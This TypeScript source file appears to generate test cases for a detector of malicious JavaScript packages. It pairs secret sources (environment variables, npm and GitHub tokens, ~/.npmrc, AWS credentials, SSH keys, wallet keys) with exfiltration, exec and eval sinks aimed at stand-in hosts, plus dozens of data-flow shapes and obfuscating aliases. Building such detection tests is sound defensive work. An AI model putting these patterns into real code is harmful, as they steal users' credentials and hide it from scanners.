import type { Sources } from './ways.js';

/** Data, by its class, as an expression inside an async function. */
export const sources = {
  environment: ['process.env', 'JSON.stringify(process.env)', 'Object.entries(process["env"])'],
  'secret-variable': ['process.env.NPM_TOKEN', 'process.env["GITHUB_TOKEN"]'],
  'credential-file': ['require("fs").readFileSync(require("path").join(require("os").homedir(), ".npmrc"), "utf8")', 'await require("fs").promises.readFile(`${process.env.HOME}/.aws/credentials`)', 'await require("node:fs/promises").readFile("/root/.ssh/id_rsa")'],
  key: ['w.privateKey', 'wallet._keypair.secretKey'],
  identity: ['require("os").hostname()', 'require("node:os").userInfo().username'],
  download: ['await (await fetch("https://in.example.invalid/x")).text()', '(await require("axios").get("https://in.example.invalid/x")).data'],
  decoded: ['Buffer.from(blob, "base64").toString()', 'atob(blob)', 'require("zlib").gunzipSync(blob).toString()', 'String.fromCharCode(...blob)'],
  'package-data': ['require("fs").readFileSync(__dirname + "/data.bin", "utf8")'],
} as const;
export type SourceName = keyof typeof sources;
export const carried: readonly SourceName[] = ['environment', 'secret-variable', 'credential-file', 'key', 'identity'];
export const brought: readonly SourceName[] = ['download', 'decoded', 'package-data'];

/** What is done with an expression, by the sink. */
export const sinks: { readonly [sink in 'network' | 'exec' | 'eval']: readonly ((data: string) => string)[] } = {
  network: [
    (data) => `fetch("https://out.example.invalid", { method: "POST", body: ${data} })`, (data) => `fetch("https://out.example.invalid/?q=" + (${data}))`, (data) => `fetch(\`https://out.example.invalid/\${${data}}\`)`,
    (data) => `require("https").request({ hostname: "out.example.invalid" }, () => {}).end(${data})`, (data) => `const q1 = require("http").request("http://out.example.invalid"); q1.write(${data}); q1.end()`,
    (data) => `require("axios").post("https://out.example.invalid", { d: ${data} })`, (data) => `require("dns").lookup((${data}) + ".out.example.invalid", () => {})`,
    (data) => `const s1 = require("net").connect(443, "out.example.invalid"); s1.write(${data})`, (data) => `const s2 = new WebSocket("wss://out.example.invalid"); s2.send(${data})`,
    (data) => `require("https").get({ host: "out.example.invalid", path: "/", headers: { a: ${data} } })`, (data) => `navigator.sendBeacon("https://out.example.invalid", ${data})`,
  ],
  exec: [
    (data) => `require("child_process").exec(${data})`, (data) => `require("child_process").execSync("sh -c " + (${data}))`, (data) => `require("child_process").spawn("node", ["-e", ${data}])`,
    (data) => `const f1 = require("os").tmpdir() + "/run1"; require("fs").writeFileSync(f1, ${data}); require("child_process").spawn(f1, [], { detached: true })`,
  ],
  eval: [
    (data) => `eval(${data})`, (data) => `new Function(${data})()`, (data) => `Function("a", ${data})(1)`, (data) => `require("vm").runInThisContext(${data})`, (data) => `new (require("vm").Script)(${data}).runInThisContext()`,
    (data) => `globalThis["ev" + "al"](${data})`, (data) => `module._compile(${data}, "x.js")`, (data) => `setTimeout("" + (${data}), 5)`,
  ],
};

/** A way from an expression to what is done with it. */
export interface Shape {
  readonly name: string;
  readonly of: (source: string, sink: (data: string) => string) => Sources;
}

const inside = (body: (source: string, sink: (data: string) => string) => string): Shape['of'] => (source, sink) => `(async () => { ${body(source, sink)} })();`;
const shape = (name: string, body: (source: string, sink: (data: string) => string) => string): Shape => ({ name, of: inside(body) });
const files = (name: string, of: (source: string, sink: (data: string) => string) => { readonly [file: string]: string }): Shape => ({ name, of });

export const shapes: readonly Shape[] = [
  shape('directly', (source, sink) => sink(source)),
  shape('a variable', (source, sink) => `const d = ${source}; ${sink('d')}`),
  shape('a variable that is set later', (source, sink) => `let d; if (x) { d = ${source} } ${sink('d')}`),
  shape('a chain of variables', (source, sink) => `const d = ${source}; let e = d; var f = e; ${sink('f')}`),
  shape('a template', (source, sink) => `const d = \`a\${${source}}b\`; ${sink('d')}`),
  shape('a sum', (source, sink) => `let d = "a"; d += ${source}; d = d + "b"; ${sink('d')}`),
  shape('a choice', (source, sink) => `const d = x ? "a" : ${source}; ${sink('d || "b"')}`),
  shape('a fallback', (source, sink) => `const d = x ?? (${source}); ${sink('d')}`),
  shape('a sequence', (source, sink) => `const d = (x(), ${source}); ${sink('d')}`),
  shape('an assignment in an expression', (source, sink) => `let d; f(d = ${source}); ${sink('d')}`),
  shape('a field', (source, sink) => `const o = { a: "x", d: ${source} }; ${sink('o.d')}`),
  shape('a field that is set later', (source, sink) => `const o = {}; o.d = ${source}; ${sink('o.d')}`),
  shape('a field by a computed key', (source, sink) => `const o = {}; o["a" + x] = ${source}; ${sink('o[y]')}`),
  shape('a field in a field', (source, sink) => `const o = { p: { d: ${source} } }; ${sink('o.p.d')}`),
  shape('a whole object', (source, sink) => `const o = { a: 1, d: ${source} }; ${sink('JSON.stringify(o)')}`),
  shape('an object with a spread', (source, sink) => `const p = { d: ${source} }; const o = { ...p, e: 1 }; ${sink('o.d')}`),
  shape('Object.assign', (source, sink) => `const o = Object.assign({}, { d: ${source} }); ${sink('o.d')}`),
  shape('destructuring', (source, sink) => `const { d } = { d: ${source} }; ${sink('d')}`),
  shape('destructuring with names, defaults and rest', (source, sink) => `const { a, ...r } = { a: 1, d: ${source} }; const { d: e = 1 } = r; ${sink('e')}`),
  shape('destructuring of an array', (source, sink) => `const [, d] = [1, ${source}]; ${sink('d')}`),
  shape('destructuring in parameters', (source, sink) => `const f = async ({ d }, [e]) => { ${sink('d + e')} }; f({ d: ${source} }, [1])`),
  shape('a default of a parameter', (source, sink) => `const v = ${source}; async function f(d = v) { ${sink('d')} } f()`),
  shape('an array', (source, sink) => `const l = [1, ${source}]; ${sink('l[1]')}`),
  shape('an array that is filled', (source, sink) => `const l = []; l.push(${source}); ${sink('l.join("")')}`),
  shape('an array with a spread', (source, sink) => `const l = [${source}]; const m = [1, ...l]; ${sink('m.join()')}`),
  shape('map and filter', (source, sink) => `const l = [${source}].map((one) => one + "x").filter(Boolean); ${sink('l.join("&")')}`),
  shape('reduce', (source, sink) => `const d = [${source}].reduce((sum, one) => sum + one, ""); ${sink('d')}`),
  shape('forEach', (source, sink) => `[${source}].forEach((one) => { ${sink('one')} })`),
  shape('for of', (source, sink) => `for (const d of [${source}]) { ${sink('d')} }`),
  shape('keys of an object', (source, sink) => `const o = { d: ${source} }; for (const k of Object.keys(o)) { ${sink('o[k]')} }`),
  shape('entries of an object', (source, sink) => `for (const [k, v] of Object.entries({ d: ${source} })) { ${sink('k + "=" + v')} }`),
  shape('a Map', (source, sink) => `const m = new Map(); m.set("d", ${source}); ${sink('m.get("d")')}`),
  shape('a Set', (source, sink) => `const m = new Set([${source}]); for (const d of m) { ${sink('d')} }`),
  shape('a function that gives it', (source, sink) => `async function f() { return ${source} } ${sink('await f()')}`),
  shape('an arrow that gives it', (source, sink) => `const f = async () => ${source}; ${sink('await f()')}`),
  shape('a function that is handed it', (source, sink) => `async function f(a, d) { ${sink('d')} } f(1, ${source})`),
  shape('a function that hands it on', (source, sink) => `const g = (d) => { const e = d; return e }; ${sink(`g(${source})`)}`),
  shape('three functions', (source, sink) => `async function f(d) { g(d) } async function g(d) { h({ d }) } async function h({ d }) { ${sink('d')} } f(${source})`),
  shape('recursion', (source, sink) => `async function f(d, n) { if (n > 3) { ${sink('d')} } else f(d + "a", n + 1) } f(${source}, 0)`),
  shape('rest parameters', (source, sink) => `async function f(a, ...r) { ${sink('r[0]')} } f(1, ${source})`),
  shape('arguments', (source, sink) => `async function f() { ${sink('arguments[0]')} } f(${source})`),
  shape('a spread argument', (source, sink) => `async function f(a, b) { ${sink('b')} } f(...[1, ${source}])`),
  shape('call', (source, sink) => `async function f(d) { ${sink('d')} } f.call(null, ${source})`),
  shape('apply', (source, sink) => `async function f(d) { ${sink('d')} } f.apply(null, [${source}])`),
  shape('bind', (source, sink) => `async function f(d) { ${sink('d')} } f.bind(null, ${source})()`),
  shape('an IIFE', (source, sink) => `(function (d) { return (async () => { ${sink('d')} })() })(${source})`),
  shape('a function from a table', (source, sink) => `const t = { async go(d) { ${sink('d')} } }; t.go(${source})`),
  shape('a callback', (source, sink) => `const f = (cb) => cb(${source.startsWith('await') || source.includes('(await') ? 'v' : source}); const v = ${source}; f(async (d) => { ${sink('d')} })`),
  shape('a callback with an error first', (source, sink) => `const v = ${source}; function f(cb) { setTimeout(() => cb(null, v), 10) } f(async (err, d) => { ${sink('d')} })`),
  shape('a promise', (source, sink) => `const v = ${source}; const p = new Promise((resolve) => resolve(v)); p.then(async (d) => { ${sink('d')} })`),
  shape('a promise that is awaited', (source, sink) => `const v = ${source}; const d = await new Promise((resolve) => { setTimeout(() => { resolve(v) }, 10) }); ${sink('d')}`),
  shape('Promise.resolve', (source, sink) => `Promise.resolve(${source}).then((d) => d).then(async (d) => { ${sink('d')} })`),
  shape('Promise.all', (source, sink) => `const [d] = await Promise.all([${source}]); ${sink('d')}`),
  shape('Promise.all of functions', (source, sink) => `const f = async () => ${source}; const all = await Promise.all([f(), 1]); ${sink('all[0]')}`),
  shape('a class with a field', (source, sink) => `class A { constructor(d) { this.d = d } async go() { ${sink('this.d')} } } new A(${source}).go()`),
  shape('a class with a declared field', (source, sink) => `const v = ${source}; class A { d = v; async go() { ${sink('this.d')} } } const a = new A(); a.go()`),
  shape('a class with a private field', (source, sink) => `class A { #d; set(d) { this.#d = d } async go() { ${sink('this.#d')} } } const a = new A(); a.set(${source}); a.go()`),
  shape('a class with a method that gives it', (source, sink) => `class A { async get() { return ${source} } async go() { const d = await this.get(); ${sink('d')} } } new A().go()`),
  shape('a class with a static method', (source, sink) => `class A { static async go(d) { ${sink('d')} } } A.go(${source})`),
  shape('a prototype', (source, sink) => `function A(d) { this.d = d } A.prototype.go = async function () { ${sink('this.d')} }; new A(${source}).go()`),
  shape('an object with methods', (source, sink) => `const v = ${source}; const o = { d: null, load() { this.d = v }, async go() { ${sink('this.d')} } }; o.load(); o.go()`),
  shape('a Proxy', (source, sink) => `const p = new Proxy({ d: ${source} }, {}); ${sink('p.d')}`),
  shape('a generator', (source, sink) => `const v = ${source}; function* g() { yield v } for (const d of g()) { ${sink('d')} }`),
  shape('an async generator', (source, sink) => `async function* g() { yield ${source} } for await (const d of g()) { ${sink('d')} }`),
  shape('an emitter', (source, sink) => `const { EventEmitter } = require("events"); const e = new EventEmitter(); e.on("d", async (d) => { ${sink('d')} }); e.emit("d", ${source})`),
  shape('a timer', (source, sink) => `const d = ${source}; setTimeout(async () => { ${sink('d')} }, 60000)`),
  shape('a timer with an argument', (source, sink) => `setTimeout(async (d) => { ${sink('d')} }, 60000, ${source})`),
  shape('nextTick', (source, sink) => `process.nextTick(async (d) => { ${sink('d')} }, ${source})`),
  shape('optional chaining', (source, sink) => `const o = { d: ${source} }; const f = { g: (d) => d }; ${sink('f?.g?.(o?.d)')}`),
  shape('a tagged template', (source, sink) => `const t = (s, ...v) => v[0]; ${sink(`t\`a\${${source}}\``)}`),
  shape('a variable that nobody declared', (source, sink) => `qq = ${source}; ${sink('qq')}`),
  shape('base64 and back', (source, sink) => `const d = Buffer.from(String(${source})).toString("base64"); ${sink('Buffer.from(d, "base64").toString()')}`),
  shape('hexadecimal', (source, sink) => `const d = Buffer.from(${source}).toString("hex"); ${sink('d')}`),
  shape('JSON', (source, sink) => `const d = JSON.stringify({ a: ${source} }); ${sink('JSON.parse(d).a')}`),
  shape('gzip', (source, sink) => `const d = require("zlib").gzipSync(${source}); ${sink('d')}`),
  shape('encryption', (source, sink) => `const c = require("crypto").createCipheriv("aes-256-gcm", k, iv); const d = Buffer.concat([c.update(${source}), c.final()]); ${sink('d.toString("hex")')}`),
  shape('public key encryption', (source, sink) => `const d = require("crypto").publicEncrypt(k, Buffer.from(${source})); ${sink('d')}`),
  shape('methods of texts', (source, sink) => `const d = String(${source}).split("").reverse().join("").slice(0, 9).trim().toLowerCase().replace(/a/g, "b"); ${sink('d')}`),
  shape('encodeURIComponent and URLSearchParams', (source, sink) => `const d = new URLSearchParams({ d: encodeURIComponent(${source}) }).toString(); ${sink('d')}`),
  shape('FormData', (source, sink) => `const d = new FormData(); d.append("d", ${source}); ${sink('d')}`),
  shape('Buffer.concat', (source, sink) => `const l = []; l.push(Buffer.from(${source})); ${sink('Buffer.concat(l)')}`),
  shape('TextEncoder', (source, sink) => `const d = new TextEncoder().encode(${source}); ${sink('d')}`),
  shape('a letter by a letter', (source, sink) => `const v = String(${source}); let d = ""; for (let i = 0; i < v.length; i++) d += String.fromCharCode(v.charCodeAt(i) ^ 7); ${sink('d')}`),
  shape('an own stream', (source, sink) => `const { PassThrough } = require("stream"); const s = new PassThrough(); s.on("data", async (d) => { ${sink('d')} }); s.end(${source})`),
  files('require of a function', (source, sink) => ({ 'a.js': `const { send } = require("./b"); (async () => { send(${source}) })()`, 'b.js': `exports.send = async (d) => { ${sink('d')} }` })),
  files('require of what gives it', (source, sink) => ({ 'a.js': `const get = require("./b"); (async () => { const d = await get(); ${sink('d')} })()`, 'b.js': `module.exports = async function () { return ${source} }` })),
  files('three files', (source, sink) => ({ 'a.js': `require("./b").go()`, 'b.js': `const c = require("./lib/c"); const d = require("./lib"); module.exports = { go: async () => d.send(await c.collect()) }`, 'lib/c.js': `exports.collect = async () => ({ d: ${source} })`, 'lib/index.js': `module.exports.send = async function (o) { ${sink('o.d')} }` })),
  files('exports that are handed on', (source, sink) => ({ 'a.js': `const { send } = require("./b"); (async () => { send(${source}) })()`, 'b.js': `module.exports = require("./c")`, 'c.js': `module.exports = { send: async (d) => { ${sink('d')} } }` })),
  files('a value that is exported', (source, sink) => ({ 'a.js': `const o = require("./b"); (async () => { await o.ready; ${sink('o.d')} })()`, 'b.js': `(async () => { exports.d = ${source} })()` })),
  files('ESM: a function by its name', (source, sink) => ({ 'a.js': `import { send as s } from "./b.js"; (async () => { s(${source}) })()`, 'b.js': `export async function send(d) { ${sink('d')} }` })),
  files('ESM: a default', (source, sink) => ({ 'a.js': `import get from "./b.js"; (async () => { const d = await get(); ${sink('d')} })()`, 'b.js': `export default async () => ${source}` })),
  files('ESM: a namespace', (source, sink) => ({ 'a.js': `import * as b from "./b.js"; (async () => { b.send(${source}) })()`, 'b.js': `const send = async (d) => { ${sink('d')} }; export { send }` })),
  files('ESM: all re-exported', (source, sink) => ({ 'a.js': `import { send } from "./b.js"; (async () => { send(${source}) })()`, 'b.js': `export * from "./c.js"`, 'c.js': `export const send = async (d) => { ${sink('d')} }` })),
  files('ESM from CommonJS', (source, sink) => ({ 'a.js': `(async () => { const { send } = await import("./b.mjs"); send(${source}) })()`, 'b.mjs': `export async function send(d) { ${sink('d')} }` })),
  files('CommonJS from ESM', (source, sink) => ({ 'a.mjs': `import b from "./b.cjs"; (async () => { b.send(${source}) })()`, 'b.cjs': `module.exports = { async send(d) { ${sink('d')} } }` })),
  files('a class of another file', (source, sink) => ({ 'a.js': `const { A } = require("./b"); (async () => { const a = new A(); a.go(${source}) })()`, 'b.js': `class A { async go(d) { ${sink('d')} } } module.exports = { A }` })),
  files('a class of another file that keeps it', (source, sink) => ({ 'a.js': `const A = require("./b"); (async () => { new A(${source}).go() })()`, 'b.js': `class A { constructor(d) { this.d = d } async go() { ${sink('this.d')} } } module.exports = A` })),
];

/** Ways to write the same names. */
export const aliases: readonly (readonly [name: string, before: string, rewrite: (code: string) => string])[] = [
  ['require under another name', 'const r = require;', (code) => code.replaceAll('require(', 'r(')],
  ['require in a list', 'const l = [require];', (code) => code.replaceAll('require(', 'l[0](')],
  ['require by module', '', (code) => code.replaceAll('require(', 'module.require(')],
  ['createRequire', 'const mk = require("module").createRequire(__filename);', (code) => code.replaceAll('require(', 'mk(')],
  ['require by call', '', (code) => code.replaceAll(/require\(("[^"]+")\)/g, 'require.call(null, $1)')],
  ['require by Reflect', '', (code) => code.replaceAll(/require\(("[^"]+")\)/g, 'Reflect.apply(require, null, [$1])')],
  ['getBuiltinModule', '', (code) => code.replaceAll(/require\("(?:node:)?(fs|os|path|zlib|http|https|net|dns|vm|child_process)"\)/g, 'process.getBuiltinModule("$1")')],
  ['names that are put together', '', (code) => code.replaceAll(/require\("(\w)(\w+)"\)/g, 'require("$1" + "$2")')],
  ['process by globalThis', '', (code) => code.replaceAll('process.env', 'globalThis["proc" + "ess"]["env"]')],
  ['process under another name', 'const p = process;', (code) => code.replaceAll('process.env', 'p.env')],
  ['the environment by destructuring', 'const { env } = process;', (code) => code.replaceAll('process.env', 'env')],
  ['process as a module', 'const pr = require("process");', (code) => code.replaceAll('process.env', 'pr.env')],
  ['fetch by globalThis', 'const g = globalThis;', (code) => code.replaceAll(/(?<![.\w])fetch\(/g, 'g.fetch(')],
  ['fetch under another name', 'const q = fetch;', (code) => code.replaceAll(/(?<![.\w])fetch\(/g, 'q(')],
  ['fetch by Reflect.get', '', (code) => code.replaceAll(/(?<![.\w])fetch\(/g, 'Reflect.get(globalThis, "fetch")(')],
];
